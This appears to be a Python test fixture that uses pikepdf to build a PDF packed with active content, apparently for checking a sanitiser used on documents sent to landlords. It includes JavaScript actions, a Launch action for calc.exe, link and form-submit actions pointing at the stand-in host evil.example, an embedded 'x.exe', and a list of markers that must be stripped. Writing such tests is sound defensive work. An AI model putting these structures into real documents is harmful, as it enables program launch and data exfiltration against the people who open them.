"""A PDF with every kind of active content a reader could run, open or extract (built with pikepdf)."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

# What must not survive into anything a landlord opens, looked for in the fully uncompressed file.
MARKERS = (b"/JavaScript", b"/Launch", b"/URI", b"/SubmitForm", b"/ImportData", b"/EmbeddedFiles",
           b"/FileAttachment", b"/OpenAction", b"app.alert", b"calc.exe", b"evil.example", b"secret payload")


def hostile_pdf(pages: int = 2) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    content = pdf.make_stream(b"BT /F1 24 Tf 72 720 Td (Identiteitskaart) Tj ET")
    page.obj["/Contents"] = content
    page.obj["/Resources"] = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                                                       BaseFont=Name.Helvetica)))
    js = Dictionary(S=Name.JavaScript, JS=String("app.alert('open')"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('close')")))
    page.obj["/AA"] = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert('page')")))
    embedded = pdf.make_stream(b"secret payload")
    embedded.Type = Name.EmbeddedFile
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=embedded)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(
            Dictionary(S=Name.JavaScript, JS=String("app.alert('tree')")))])),
        EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), filespec])),
    )
    rect = Array([72, 72, 200, 100])
    annotations = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
                   A=Dictionary(S=Name.Launch, F=String("calc.exe"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
                   A=Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=rect,
                   A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/submit"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("c"), Rect=rect,
                   A=Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=filespec),
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("d"), Rect=rect,
                   AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("app.alert('key')")))),
        Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=rect, Contents=String("een gewone notitie")),
    ]
    page.obj["/Annots"] = Array([pdf.make_indirect(a) for a in annotations])
    pdf.Root.AcroForm = Dictionary(Fields=Array([a for a in page.obj["/Annots"] if "/FT" in a]),
                                   XFA=pdf.make_stream(b"<xdp><script>app.alert('xfa')</script></xdp>"))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Start"), Parent=pdf.Root.Outlines,
                                        A=Dictionary(S=Name.JavaScript, JS=String("app.alert('bookmark')"))))
    pdf.Root.Outlines.First = item
    pdf.Root.Outlines.Last = item
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def plain_bytes(data: bytes) -> bytes:
    """The PDF written out with every stream decoded and no object streams, to search as text."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False)
        return out.getvalue()


def markers_in(data: bytes) -> list[bytes]:
    text = plain_bytes(data)
    return [marker for marker in MARKERS if marker in text]
